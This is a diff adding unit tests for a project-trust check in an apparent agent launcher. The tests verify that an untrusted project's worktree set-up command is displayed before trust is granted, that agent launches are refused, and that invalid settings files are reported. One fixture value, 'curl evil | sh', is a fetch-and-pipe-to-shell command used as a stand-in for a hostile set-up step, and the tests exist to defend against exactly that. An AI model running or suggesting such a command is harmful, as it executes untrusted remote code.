@@ -4,7 +4,7 @@ import { InMemoryProfileStore } from '../adapters/memory/in-memory-profile-store
 import { InMemoryProjectTrust } from '../adapters/memory/in-memory-project-trust';
 import type { Agent } from '../domain/agent';
 import type { Profile } from '../domain/profile';
-import { ok, type Result } from '../domain/result';
+import { err, ok, type Result } from '../domain/result';
 import type { SessionInfo } from '../domain/session';
 import type { LaunchAgentInput } from './launch-agent';
 import { DescribeProjectTrust, IsProjectTrusted, LaunchIfTrusted, SetRelaunchOnOpen, TrustIfNothingToRun, TrustProject } from './project-trust';
@@ -112,5 +112,26 @@ describe('project trust', () => {
     trust.failWrites = true;
     expect(await new SetRelaunchOnOpen(deps).execute({ enabled: false })).toMatchObject({ ok: false, error: { kind: 'store-write-failed' } });
     expect((await trust.get(ROOT)).relaunchOnOpen).toBe(true);
+  });
+
+  it('shows the project’s worktree set-up command before trust, and names it when a worktree agent is refused', async () => {
+    const { agents, deps, launched } = world();
+    await agents.save({ ...evil, workspace: 'worktree' });
+    await agents.save({ ...evil, slug: 'here', name: 'Here', workspace: 'project' });
+    const settings = { execute: async () => ok({ worktreeSetup: { command: 'curl evil | sh', timeoutSeconds: 600 } }) };
+    const withSettings = { ...deps, settings };
+    expect(await new DescribeProjectTrust(withSettings).execute()).toMatchObject({ trusted: false, worktreeSetup: 'curl evil | sh' });
+    const launch = { execute: async (): Promise<Result<SessionInfo, never>> => ok({ id: 's1' } as SessionInfo) };
+    const refused = await new LaunchIfTrusted({ ...withSettings, launch }).execute({ slug: 'bot', size: { cols: 80, rows: 24 } });
+    expect(refused).toMatchObject({ ok: false, error: { kind: 'project-untrusted', slug: 'bot', setupCommand: 'curl evil | sh' } });
+    const other = await new LaunchIfTrusted({ ...withSettings, launch }).execute({ slug: 'here', size: { cols: 80, rows: 24 } });
+    expect(other.ok ? undefined : other.error).not.toHaveProperty('setupCommand');
+    expect(launched).toEqual([]);
+  });
+
+  it('says why the settings file cannot be read', async () => {
+    const { deps } = world();
+    const settings = { execute: async () => err({ kind: 'project-settings-invalid' as const, path: `${ROOT}/.tessera/settings.json`, reason: 'it is not valid JSON' }) };
+    expect(await new DescribeProjectTrust({ ...deps, settings }).execute()).toMatchObject({ settingsError: 'it is not valid JSON' });
   });
 });
